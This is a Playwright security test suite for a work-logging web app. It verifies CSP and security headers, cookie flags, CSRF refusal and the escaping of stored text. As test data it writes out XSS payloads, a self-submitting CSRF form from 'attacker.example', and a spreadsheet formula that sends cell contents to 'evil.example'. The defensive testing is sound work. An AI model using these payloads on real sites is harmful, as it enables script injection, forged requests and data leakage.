import fs from "node:fs";
import { expect, test, type APIResponse, type Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { DateTime } from "luxon";
import superjson from "superjson";
import { trpcQuery } from "./rotation-support";
import { DEMO, DEMO_PASSWORD, EMPTY_SERVER, expectAccessible, screenshot, signIn, uniqueName } from "./support";

/**
 * Web security in the browser: headers and a Content-Security-Policy that the app runs under without a single
 * violation; session cookies; cross-site requests refused; stored text shown as text everywhere it is drawn.
 * The XSS journey uses the Data Platform team (Olga, engineer; the admin for the team's reports), which no
 * other journey reads, so its payloads and minutes move nobody else's numbers.
 */
const OLGA = "olga@northwind.example";

/** A mutation through the browser's own tRPC endpoint, dates and all (superjson), answering the raw response. */
function mutate(page: Page, path: string, input: unknown, headers: Record<string, string> = {}): Promise<APIResponse> {
  return page.request.post(`/api/trpc/${path}`, { data: superjson.serialize(input), headers });
}

async function mutation<T>(page: Page, path: string, input: unknown): Promise<T> {
  const response = await mutate(page, path, input);
  expect(response.ok(), await response.text()).toBe(true);
  const body = (await response.json()) as { result: { data: Parameters<typeof superjson.deserialize>[0] } };
  return superjson.deserialize<T>(body.result.data);
}

/** Collects every CSP violation the page reports, from the DOM event and from the console alike. */
function watchCsp(page: Page): () => string[] {
  const seen: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy|CSP violation/i.test(message.text())) seen.push(`${page.url()}: ${message.text()}`);
  });
  void page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      console.error(
        `CSP violation: ${event.violatedDirective} blocked ${event.blockedURI || "inline"} in ${event.sourceFile}:${event.lineNumber}`,
      );
    });
  });
  return () => [...seen];
}

function directivesOf(policy: string | undefined): Map<string, string> {
  return new Map(
    (policy ?? "").split(";").map((part) => {
      const [name = "", ...values] = part.trim().split(/\s+/);
      return [name, values.join(" ")];
    }),
  );
}

const MAIN_PAGES = [
  "/",
  "/week",
  "/share",
  "/reports",
  "/reports/sources",
  "/reports/trend",
  "/reports/interrupts",
  "/rotations",
  "/settings",
  "/profile",
];

test("every page carries the security headers and runs under its nonce CSP without a violation @postgres", async ({
  page,
}) => {
  test.slow();
  const violations = watchCsp(page);
  await signIn(page, DEMO.manager);
  const nonces = new Set<string>();
  for (const path of MAIN_PAGES) {
    const response = await page.goto(path);
    expect(response?.status(), path).toBe(200);
    await page.waitForLoadState("networkidle");
    const headers = response?.headers() ?? {};
    const csp = directivesOf(headers["content-security-policy"]);
    const nonce = /'nonce-([^']+)'/.exec(csp.get("script-src") ?? "")?.[1];
    expect(nonce, `${path} has a script nonce`).toBeTruthy();
    nonces.add(nonce ?? "");
    expect(csp.get("frame-ancestors")).toBe("'none'");
    expect(csp.get("object-src")).toBe("'none'");
    expect(csp.get("script-src")).not.toContain("unsafe-inline");
    expect(headers).toMatchObject({
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "strict-origin-when-cross-origin",
      "cross-origin-opener-policy": "same-origin",
    });
    // Plain HTTP here: HSTS only when served over HTTPS.
    expect(headers["strict-transport-security"]).toBeUndefined();
    // Next put the nonce on its scripts: every script element of the page as served carries it. (Chunks loaded
    // later, such as the charts, are added by those scripts, which 'strict-dynamic' trusts; the violation
    // watcher above proves none was refused.)
    const served = (await response?.text()) ?? "";
    const scriptTags = served.match(/<script\b[^>]*>/g) ?? [];
    expect(scriptTags.length, `${path} has scripts`).toBeGreaterThan(0);
    expect(
      scriptTags.filter((tag) => !/\snonce="[^"]+"/.test(tag)),
      path,
    ).toEqual([]);
  }
  expect(nonces.size, "a fresh nonce per response").toBe(MAIN_PAGES.length);

  // Client-side navigation loads further chunks under 'strict-dynamic'.
  await page.goto("/");
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Rotations", exact: true }).click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Rotations");
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Team reports", exact: true }).click();
  await expect(page.getByRole("heading", { name: "Team reports", exact: true })).toBeVisible();

  const missing = await page.goto("/no-such-page");
  expect(missing?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "Page not found" })).toBeVisible();
  await expectAccessible(page);
  await screenshot(page, "not-found");
  expect(violations()).toEqual([]);

  // The policy works: an inline handler slipped into the page is refused, and says so.
  await page.goto("/");
  await page.evaluate(() => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "document.body.dataset.inlineRan = 'yes'");
    image.src = "/nothing-here.png";
    document.body.append(image);
  });
  await expect.poll(() => violations().some((line) => /script-src/.test(line))).toBe(true);
  expect(await page.evaluate(() => document.body.dataset.inlineRan)).toBeUndefined();
});

test("data responses may load nothing; the configured http address wins over a forged X-Forwarded-Proto @postgres", async ({
  page,
  baseURL,
}) => {
  const api = await page.request.get("/api/trpc/viewer.current");
  expect(api.headers()).toMatchObject({ "x-content-type-options": "nosniff", "x-frame-options": "DENY" });
  expect(directivesOf(api.headers()["content-security-policy"]).get("default-src")).toBe("'none'");

  // The server runs with BETTER_AUTH_URL=http://...: a client claiming HTTPS changes neither HSTS nor the cookie.
  // HTTPS behind a proxy (HSTS, __Secure- cookies) is covered in proxy.test.ts and session-cookies.int.test.ts.
  const forged = await page.request.get("/sign-in", { headers: { "x-forwarded-proto": "https" } });
  expect(forged.headers()["strict-transport-security"]).toBeUndefined();
  expect(directivesOf(forged.headers()["content-security-policy"]).has("upgrade-insecure-requests")).toBe(false);

  const origin = new URL(baseURL ?? "").host;
  const sessionCookie = (response: APIResponse) =>
    response
      .headersArray()
      .find((header) => header.name.toLowerCase() === "set-cookie" && header.value.includes("session_token"))?.value ??
    "";
  const body = { email: DEMO.planner, password: DEMO_PASSWORD };
  const http = sessionCookie(
    await page.request.post("/api/auth/sign-in/email", { data: body, headers: { origin: `http://${origin}` } }),
  );
  expect(http).toMatch(/^better-auth\.session_token=/);
  expect(http).toMatch(/HttpOnly/i);
  expect(http).toMatch(/SameSite=Lax/i);
  expect(http).not.toMatch(/Secure/i);
  const claimed = sessionCookie(
    await page.request.post("/api/auth/sign-in/email", {
      data: body,
      headers: { origin: `http://${origin}`, "x-forwarded-proto": "https" },
    }),
  );
  expect(claimed).toMatch(/^better-auth\.session_token=/);
  expect(claimed).not.toMatch(/Secure/i);
});

test("a forged cross-site request is refused and changes nothing; our own pages' requests go through @postgres", async ({
  page,
  baseURL,
}) => {
  await signIn(page, DEMO.planner);
  const own = baseURL ?? "";
  const recentSummaries = async () =>
    (await trpcQuery<Array<{ summary: string }>>(page, "workLog.recent", { limit: 100 })).map((entry) => entry.summary);
  const entry = (summary: string) => ({ summary, duration: "5m", category: "overhead" });

  // With the victim's cookie and a JSON body that would otherwise be accepted.
  const forgedSummary = uniqueName("Forged entry");
  const forged = await mutate(page, "workLog.create", entry(forgedSummary), {
    origin: "https://evil.example",
    "sec-fetch-site": "cross-site",
  });
  expect(forged.status()).toBe(403);
  expect(await forged.json()).toMatchObject({ error: { status: 403, code: "cross_site_request" } });
  const forgedSignOut = await page.request.post("/api/auth/sign-out", {
    headers: { origin: "https://evil.example" },
    data: {},
  });
  expect(forgedSignOut.status()).toBe(403);

  // A real browser: a page on another origin of the same site (the other test server's port) and one on another
  // site, each posting a form at the tRPC endpoint. The same-site one even carries the session cookie.
  const attackers = [
    { origin: EMPTY_SERVER, cookieSent: true },
    { origin: "http://attacker.example", cookieSent: false },
  ];
  for (const attacker of attackers) {
    const summary = uniqueName("CSRF entry");
    const field = `{"json":{"summary":"${summary}","duration":"5m","category":"overhead","pad":"`;
    await page.route(`${attacker.origin}/csrf`, (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<!doctype html><title>Win a prize</title><form method="post" enctype="text/plain" action="${own}/api/trpc/workLog.create"><input name='${field}' value='"}}'></form><script>document.forms[0].submit()</script>`,
      }),
    );
    const answered = page.waitForResponse((response) => response.url().endsWith("/api/trpc/workLog.create"));
    await page.goto(`${attacker.origin}/csrf`);
    const response = await answered;
    expect(response.status(), attacker.origin).toBe(403);
    const sent = await response.request().allHeaders();
    expect(sent.origin).toBe(new URL(attacker.origin).origin);
    expect((sent.cookie ?? "").includes("session_token"), `cookie sent from ${attacker.origin}`).toBe(
      attacker.cookieSent,
    );
    expect(await recentSummaries()).not.toContain(summary);
  }
  expect(await recentSummaries()).not.toContain(forgedSummary);

  // Still signed in (the forged sign-out did nothing), and the same request from our own origin works.
  await page.goto("/");
  const ownSummary = uniqueName("Own entry");
  const accepted = await mutate(page, "workLog.create", entry(ownSummary), {
    origin: new URL(own).origin,
    "sec-fetch-site": "same-origin",
  });
  expect(accepted.status(), await accepted.text()).toBe(200);
  const created = (await recentSummaries()).includes(ownSummary);
  expect(created).toBe(true);
  const [mine] = (
    await trpcQuery<Array<{ id: string; summary: string }>>(page, "workLog.recent", { limit: 100 })
  ).filter((e) => e.summary === ownSummary);
  if (mine) await mutation(page, "workLog.remove", { id: mine.id });
});

/** The test fails on any of these: a dialog, an element the payload injected, a script: URL in a link. */
async function expectNothingInjected(page: Page, dialogs: string[], where: string) {
  await page.waitForLoadState("networkidle");
  expect(dialogs, `${where}: dialogs`).toEqual([]);
  expect(await page.locator("[data-xss]").count(), `${where}: injected elements`).toBe(0);
  const hrefs = await page
    .locator("a[href]")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  expect(
    hrefs.filter((href) => /^\s*(javascript|data|vbscript):/i.test(href)),
    `${where}: script links`,
  ).toEqual([]);
  expect(await page.evaluate(() => document.body.dataset.xss), `${where}: a payload ran`).toBeUndefined();
}

test("stored text is shown as text: HTML and script payloads in entries, interrupts and tickets run nowhere @postgres", async ({
  page,
  browser,
}) => {
  test.slow();
  const run = Date.now().toString(36);
  const payloads = {
    img: `XSS ${run} img <img src=x onerror="document.body.dataset.xss='img';alert(1)" data-xss=img>`,
    script: `XSS ${run} script "><script data-xss=script>document.body.dataset.xss='script';alert(2)</script>`,
    svg: `XSS ${run} svg <svg data-xss=svg onload="alert(3)"><a data-xss=a href="javascript:alert(4)">x</a></svg>`,
    quote: `XSS ${run} quote '"><iframe data-xss=iframe srcdoc="<script>alert(5)</script>"></iframe>`,
  };
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const violations = watchCsp(page);

  await signIn(page, OLGA);
  const [team] = await trpcQuery<Array<{ id: string; name: string }>>(page, "teams.list");
  if (!team) throw new Error("Olga has no team");

  // Links a user enters must be http(s): anything else is refused, naming the field.
  for (const link of [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
  ]) {
    const refused = await mutate(page, "workLog.create", {
      teamId: team.id,
      summary: "bad link",
      duration: "5m",
      category: "toil",
      link,
    });
    expect(refused.status(), link).toBe(400);
    expect(await refused.text()).toContain("link");
  }
  const linked = await mutation<{ id: string }>(page, "workLog.create", {
    teamId: team.id,
    summary: payloads.img,
    duration: "5m",
    category: "toil",
    link: `https://runbooks.example/disk?q="><img src=x data-xss=link onerror=alert(6)>`,
  });
  const plain = await mutation<{ id: string }>(page, "workLog.create", {
    teamId: team.id,
    summary: payloads.script,
    duration: "5m",
    category: "toil",
  });
  const interrupt = await mutation<{ id: string }>(page, "interrupts.create", {
    teamId: team.id,
    kind: "request",
    source: `chat <b data-xss=b>${run}</b>`,
    service: `svc <img data-xss=svc src=x onerror=alert(7)>`,
    summary: payloads.svg,
    openedAt: DateTime.now().minus({ hours: 1 }).toJSDate(),
  });
  await mutation(page, "interrupts.logTime", { interruptId: interrupt.id, duration: "5m" });
  const template = await mutation<{ id: string }>(page, "templates.create", {
    teamId: team.id,
    name: `=HYPERLINK("https://evil.example/?"&A1,"open ${run}")`,
    duration: "5m",
    category: "toil",
    traits: {
      manual: true,
      repetitive: true,
      automatable: true,
      tactical: false,
      noEnduringValue: true,
      scalesLinearly: false,
    },
  });
  const fromTemplate = await mutation<{ id: string }>(page, "templates.logFromTemplate", { templateId: template.id });

  // A ticket import (by the admin) puts one in Olga's capture inbox.
  const adminContext = await browser.newContext();
  const admin = await adminContext.newPage();
  admin.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const adminViolations = watchCsp(admin);
  await signIn(admin, DEMO.admin);
  const opened = DateTime.now().minus({ hours: 2 }).toUTC().toISO();
  const csvCell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const ticketCsv = [
    "ticket id,opened,resolved,assignee email,service,summary",
    `XSS-${run},${opened},,${OLGA},${csvCell(`db <img data-xss=ticketsvc src=x onerror=alert(8)>`)},${csvCell(payloads.quote)}`,
  ].join("\n");
  expect(await mutation(admin, "tickets.commit", { teamId: team.id, csv: ticketCsv })).toMatchObject({ created: 1 });

  // Olga's pages: My work (recent entries, templates, the capture inbox) and My week.
  await page.goto("/");
  const inbox = page.getByRole("region", { name: /Captured pages/ });
  await expect(inbox).toContainText(payloads.quote);
  await expect(page.getByText(payloads.img).first()).toBeVisible();
  await expectNothingInjected(page, dialogs, "My work");
  await page.goto("/week");
  await expect(page.getByText(payloads.svg).first()).toBeVisible();
  const entryLink = page.getByRole("link", { name: payloads.img });
  await expect(entryLink).toHaveAttribute("href", /^https:\/\/runbooks\.example\/disk\?q=/);
  await expect(page.getByText(payloads.script).first()).toBeVisible();
  await expectNothingInjected(page, dialogs, "My week");
  await screenshot(page, "security-week-payloads");

  // The team's reports, as the admin: the engineer's drill-down and the toil sources.
  const members = await trpcQuery<Array<{ personId: string; email: string }>>(admin, "teams.members", {
    teamId: team.id,
  });
  const olgaId = members.find((member) => member.email === OLGA)?.personId;
  if (!olgaId) throw new Error("Olga is not in her team");
  const from = DateTime.now().startOf("week").minus({ weeks: 1 }).toISO();
  const to = DateTime.now().endOf("week").toISO();
  await admin.goto(
    `/reports/drill?team=${team.id}&person=${olgaId}&from=${encodeURIComponent(from ?? "")}&to=${encodeURIComponent(to ?? "")}&all=1`,
  );
  await expect(admin.getByText(payloads.img).first()).toBeVisible();
  await expect(admin.getByText(payloads.svg).first()).toBeVisible();
  await expectNothingInjected(admin, dialogs, "drill-down");
  await admin.goto(`/reports/sources?team=${team.id}&period=month&group=template`);
  const sourcesTable = admin.getByRole("table").filter({ hasText: `open ${run}` });
  await expect(sourcesTable).toBeVisible();
  await expectNothingInjected(admin, dialogs, "toil sources");

  // The CSV export neutralises the formula; the JSON export is JSON.
  const downloading = admin.waitForEvent("download");
  await admin.getByRole("button", { name: "CSV of the toil sources table" }).click();
  const csv = fs.readFileSync(await (await downloading).path(), "utf8");
  const rows = parse(csv, { columns: true }) as Array<{ source: string }>;
  const formula = rows.find((row) => row.source.includes(`open ${run}`));
  expect(formula?.source).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"open ${run}")`);
  for (const row of rows) expect(row.source).not.toMatch(/^[=+\-@]/);
  const jsonDownloading = admin.waitForEvent("download");
  await admin.getByRole("button", { name: "JSON of the toil sources table" }).click();
  const exported = JSON.parse(fs.readFileSync(await (await jsonDownloading).path(), "utf8")) as Array<{
    source: string;
  }>;
  expect(exported.map((row) => row.source)).toContain(`=HYPERLINK("https://evil.example/?"&A1,"open ${run}")`);

  // The JSON API: served as JSON that browsers may not sniff, even when it echoes a hostile parameter.
  const token = await mutation<{ secret: string; token: { id: string } }>(admin, "apiTokens.create", {
    name: uniqueName("security check"),
  });
  const authorization = { authorization: `Bearer ${token.secret}` };
  const report = await admin.request.get(
    `/api/v1/reports/toil?team=${team.id}&from=${encodeURIComponent(from ?? "")}&to=${encodeURIComponent(to ?? "")}`,
    { headers: authorization },
  );
  expect(report.status()).toBe(200);
  expect(report.headers()["content-type"]).toMatch(/^application\/json/);
  expect(report.headers()["x-content-type-options"]).toBe("nosniff");
  expect(directivesOf(report.headers()["content-security-policy"]).get("default-src")).toBe("'none'");
  const hostile = await admin.request.get(
    `/api/v1/reports/toil?team=${encodeURIComponent("<script>alert(9)</script>")}`,
    { headers: authorization },
  );
  expect(hostile.status()).toBe(400);
  expect(hostile.headers()["content-type"]).toMatch(/^application\/json/);
  expect(hostile.headers()["x-content-type-options"]).toBe("nosniff");
  expect(JSON.parse(await hostile.text())).toMatchObject({ error: { status: 400, parameter: "team" } });
  await mutation(admin, "apiTokens.revoke", { id: token.token.id });

  expect(violations().filter((line) => !line.includes("nothing-here"))).toEqual([]);
  expect(adminViolations()).toEqual([]);

  // Leave the team as it was: the entries and the template go (soft delete).
  for (const id of [linked.id, plain.id, fromTemplate.id]) await mutation(page, "workLog.remove", { id });
  await mutation(page, "templates.remove", { id: template.id });
  await adminContext.close();
});
